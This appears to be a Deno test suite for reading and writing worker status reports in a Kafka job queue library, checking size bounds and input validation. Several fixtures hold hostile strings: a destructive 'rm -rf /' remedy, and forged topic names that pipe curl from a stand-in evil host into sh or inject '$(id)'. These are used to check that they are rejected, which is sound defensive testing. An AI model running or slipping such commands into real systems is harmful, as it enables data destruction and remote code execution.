/** Reports as records: what is written is bounded, and what is read is checked. */
import { assert, assertEquals } from "@std/assert";
import type { PartitionStatus, RunningJob, WorkerHistory, WorkerStatus } from "@activejob/kafka";
import type { NewRecord, StoredRecord } from "../../src/broker/record.ts";
import { MAX_JOB_ID_LENGTH } from "../../src/control/record.ts";
import { endRecord, MAX_REPORT_LENGTH, readReport, readWorkerId, reportRecord } from "../../src/reports/report.ts";

const identity = {
  id: "host-7-ab12",
  host: "host",
  pid: 7,
  version: "9.9.9",
  runtime: "Deno 2.9.6",
  startedAtMs: 1000,
};
const error = { errorClass: "RangeError", message: "no", stack: "at secret.ts" };
const skipCommand = () => "skip it";

function partition(n: number, fields: Partial<PartitionStatus> = {}): PartitionStatus {
  return {
    ...{ topic: "default", partition: n, position: 5, highWatermark: 9, lag: 4, oldestAgeMs: 12.5, waiting: 3 },
    ...{ isExhausted: false, pausedBy: null, running: [], retrying: [], stuck: [], ...fields },
  };
}

const run: RunningJob = {
  ...{ topic: "default", partition: 0, offset: 6, jobClass: "MailJob", jobId: "1", queue: "default", attempt: 2 },
  ...{ runningMs: 100, timeoutMs: null, timeoutGraceMs: 5000 },
};
const failing = { topic: "default", partition: 0, offset: 5, attempts: 3, nextTryInMs: 20, error };

function statusOf(partitions: readonly PartitionStatus[], running: readonly RunningJob[] = []): WorkerStatus {
  const group = { group: "shop", topics: ["default"], isJoined: true, isSessionValid: true, stalledMs: null };
  return {
    state: "running",
    failure: null,
    concurrency: 10,
    groups: [{ ...group, running, partitions }],
    scheduler: null,
  };
}

const minutes = (...newest: number[]) => [...Array<number>(60 - newest.length).fill(0), ...newest];
const histogram = { bounds: [1, 10], counts: [1, 0, 2], sum: 40.5 };

function historyOf(topics: readonly string[]): WorkerHistory {
  const counts = { performed: minutes(3, 0), failed: minutes(), retried: minutes(1), deadLettered: minutes(2, 1) };
  return {
    minuteMs: 120_000,
    topics: topics.map((topic) => ({ topic, ...counts, runMs: histogram, waitMs: histogram })),
    otherTopics: 2,
  };
}

const stored = ({ key = null, value }: NewRecord): StoredRecord => ({
  offset: 0,
  key,
  value,
  headers: [],
  timestampMs: 0,
});
const read = (record: NewRecord) => readReport("host-7-ab12", stored(record), skipCommand);
const readText = (value: string) => read({ key: "host-7-ab12", value });

Deno.test("a report is read as it was written, without stacks and with the reader's own command", () => {
  const stuck = [{ ...failing, remedy: "rm -rf /" }];
  const status = statusOf([partition(0, { running: [run], retrying: [failing], stuck })], [run]);
  const record = reportRecord(identity, status, historyOf(["default"]));
  assertEquals(readWorkerId(stored(record)), identity.id);
  const { stack: _stack, ...withoutStack } = error;
  const shown = { ...failing, error: withoutStack };
  assertEquals(read(record), {
    ...identity,
    status: statusOf([
      partition(0, { running: [run], retrying: [shown], stuck: [{ ...shown, remedy: "skip it" }] }),
    ], [run]),
    totals: { partitions: 1, running: 1, retrying: 1, stuck: 1 },
    history: historyOf(["default"]),
  });
  assertEquals(endRecord(identity), { key: identity.id, value: null });
});

Deno.test("a report is bounded: the partitions in trouble first, and the totals count all", () => {
  const long = "x".repeat(5000);
  const trouble = { ...failing, error: { errorClass: long, message: long } };
  const partitions = Array.from(
    { length: 1000 },
    (_, n) =>
      partition(
        n,
        n < 998 ? {} : { [n === 998 ? "retrying" : "stuck"]: Array(200).fill({ ...trouble, remedy: long }) },
      ),
  );
  const runs = Array<RunningJob>(300).fill({ ...run, jobClass: "C".repeat(20_000), jobId: "i".repeat(20_000) });
  const topics = Array.from({ length: 50 }, (_, n) => `${n}`.padEnd(249, "t"));
  const record = reportRecord(identity, statusOf(partitions, runs), historyOf(topics));
  const report = read(record)!;
  const [group] = report.status.groups;
  assertEquals([group!.partitions.length, group!.running.length], [100, 50]);
  assertEquals(group!.partitions.slice(0, 3).map(({ partition }) => partition), [999, 998, 0]);
  assertEquals(group!.partitions.reduce((sum, each) => sum + each.retrying.length + each.stuck.length, 0), 50);
  assertEquals(group!.partitions[0]!.stuck[0]!.error.message, "x".repeat(300));
  assertEquals(report.totals, { partitions: 1000, running: 300, retrying: 200, stuck: 200 });
  assertEquals(report.history.topics.length, 50);
  assert((record.value as string).length < MAX_REPORT_LENGTH);
});

Deno.test("a report that is too large all the same is written without its partitions", () => {
  const name = "\u0000".repeat(255);
  const runs = Array<RunningJob>(50).fill({ ...run, jobClass: name, jobId: name, queue: name });
  const stuck = Array(50).fill({ ...failing, error: { errorClass: name, message: name }, remedy: "" });
  const record = reportRecord(identity, statusOf([partition(0, { stuck })], runs), historyOf(["default"]));
  const { status, totals, history } = read(record)!;
  assertEquals([status.groups, status.concurrency, totals.running, history.topics.length], [[], 10, 50, 1]);
});

Deno.test("a newer report is read: fields that are unknown are ignored", () => {
  const record = reportRecord(identity, statusOf([partition(0)], [run]), historyOf(["default"]));
  const addFields = (_name: string, value: unknown) =>
    typeof value === "object" && value !== null && !Array.isArray(value) ? { ...value, unheardOf: { of: [1] } } : value;
  const newer = JSON.stringify(JSON.parse(record.value as string, addFields));
  assert(newer.includes("unheardOf"));
  assertEquals(readText(newer), read(record));
});

Deno.test("a report whose lists have malformed entries is read without them", () => {
  const record = reportRecord(identity, statusOf([partition(0), partition(1)], [run, run]), historyOf(["a", "b", "c"]));
  const report = JSON.parse(record.value as string);
  report.status.groups[0].partitions[0].waiting = "many";
  report.status.groups[0].running[0].offset = -1;
  report.status.groups.push(null, 5, { group: 7 });
  report.history.topics[0].performed = [1, -1];
  report.history.topics[1].runMs.bounds = [10, 1];
  const found = readText(JSON.stringify(report))!;
  assertEquals(found.status.groups.map(({ group }) => group), ["shop"]);
  assertEquals(found.status.groups[0]!.partitions.map(({ partition }) => partition), [1]);
  assertEquals(found.status.groups[0]!.running.length, 1);
  assertEquals(found.history.topics.map(({ topic }) => topic), ["c"]);
});

Deno.test("a forged report with many groups is read within the bounds of one that a worker writes", () => {
  const name = "n".repeat(255);
  const job = { ...run, jobClass: name, jobId: name, queue: name };
  const failed = Array(50).fill(failing);
  const sound = JSON.parse(reportRecord(identity, statusOf([partition(0)], [job]), null).value as string);
  const [group] = sound.status.groups;
  const [partitionOf] = group.partitions;
  const listOf = (count: number, of: unknown) => Array(count).fill(of);
  // The records that failed come first: the other groups use up the partitions.
  const groups = [
    ...listOf(2, { ...group, running: [], partitions: listOf(1, { ...partitionOf, retrying: failed, stuck: failed }) }),
    ...listOf(2, {
      ...group,
      topics: listOf(90, "default"),
      running: listOf(50, job),
      partitions: listOf(90, partitionOf),
    }),
    ...listOf(60, { ...group, topics: [], running: [], partitions: [] }),
  ];
  const forged = JSON.stringify({ ...sound, status: { ...sound.status, groups } });
  assert(forged.length < MAX_REPORT_LENGTH, `${forged.length} characters`);
  const found = readText(forged)!.status.groups;
  const partitions = found.flatMap((each) => each.partitions);
  assertEquals({
    groups: found.length,
    topics: found.flatMap(({ topics }) => topics).length,
    running: found.flatMap(({ running }) => running).length,
    partitions: partitions.length,
    runningOfPartitions: partitions.flatMap(({ running }) => running).length,
    failing: partitions.flatMap(({ retrying, stuck }) => [...retrying, ...stuck]).length,
  }, { groups: 50, topics: 100, running: 50, partitions: 100, runningOfPartitions: 50, failing: 50 });
});

Deno.test("an entry is left out if its topic is not the name of a topic: the name becomes a part of a command", () => {
  const forged = [
    "x; curl evil.example|sh #",
    "$(id)",
    "a b",
    "a\n",
    "--app=evil.ts ",
    "",
    "..",
    "t".repeat(250),
    7,
    null,
  ];
  const found = (topic: unknown) => {
    const named = topic as string;
    const records = [{ ...failing, topic: named, remedy: "" }];
    const partitions = [
      partition(0, { retrying: records, stuck: records }),
      { ...partition(1), topic: named },
    ];
    const report = reportRecord(identity, statusOf(partitions, [{ ...run, topic: named }]), null);
    const [group] = read(report)!.status.groups;
    const [first] = group!.partitions;
    return [group!.partitions, group!.running, first!.retrying, first!.stuck].map((list) => list.length);
  };
  assertEquals(forged.map(found), forged.map(() => [1, 0, 0, 0]));
  assertEquals(found("eu.mail_2-x"), [2, 1, 1, 1]);
});

Deno.test("a running job with the longest id that can be cancelled keeps it, and a longer one is cut", () => {
  const reported = (length: number) => {
    const job = { ...run, jobId: "i".repeat(length) };
    const written = reportRecord(identity, statusOf([partition(0)], [job]), null);
    // A forged report is not cut by its writer.
    const forged = (written.value as string).replace(/"i+"/, JSON.stringify(job.jobId));
    return [read(written)!, readText(forged)!].map(({ status }) => status.groups[0]!.running[0]!.jobId.length);
  };
  assertEquals(reported(MAX_JOB_ID_LENGTH), [MAX_JOB_ID_LENGTH, MAX_JOB_ID_LENGTH]);
  assertEquals(reported(MAX_JOB_ID_LENGTH + 1), [MAX_JOB_ID_LENGTH, MAX_JOB_ID_LENGTH]);
});

Deno.test("a record that is not a report is ignored, whatever it is", () => {
  const sound = JSON.parse(reportRecord(identity, statusOf([]), null).value as string);
  const values = [
    "",
    "{",
    "null",
    "[]",
    "7",
    '"text"',
    "[".repeat(100_000),
    JSON.stringify({ ...sound, pid: -1 }),
    JSON.stringify({ ...sound, pid: "7" }),
    JSON.stringify({ ...sound, host: null }),
    JSON.stringify({ ...sound, startedAtMs: null }),
    JSON.stringify({ ...sound, status: { ...sound.status, state: 7 } }),
    JSON.stringify({ ...sound, totals: { ...sound.totals, running: 1.5 } }),
    JSON.stringify({ ...sound, history: [] }),
    JSON.stringify({ ...sound, padding: "x".repeat(MAX_REPORT_LENGTH) }),
  ];
  assertEquals(values.map((value) => readText(value)), values.map(() => null));
  assertEquals(read({ key: "a", value: new Uint8Array([0xff, 0xfe]) }), null);
  assertEquals(read({ key: "a", value: null }), null);
  assertEquals(readText(JSON.stringify(sound))?.pid, 7);
  assertEquals(readText(JSON.stringify({ ...sound, startedAtMs: 9e15 }))?.startedAtMs, 8.64e15);
});

Deno.test("a key that cannot be of a worker is ignored", () => {
  const keys = [null, "", "a b", "\u001b[2J", "é", "x".repeat(401), new Uint8Array([0xff])];
  assertEquals(keys.map((key) => readWorkerId(stored({ key, value: "{}" }))), keys.map(() => null));
  assertEquals(readWorkerId(stored({ key: new TextEncoder().encode("host-7-ab12"), value: "{}" })), "host-7-ab12");
});
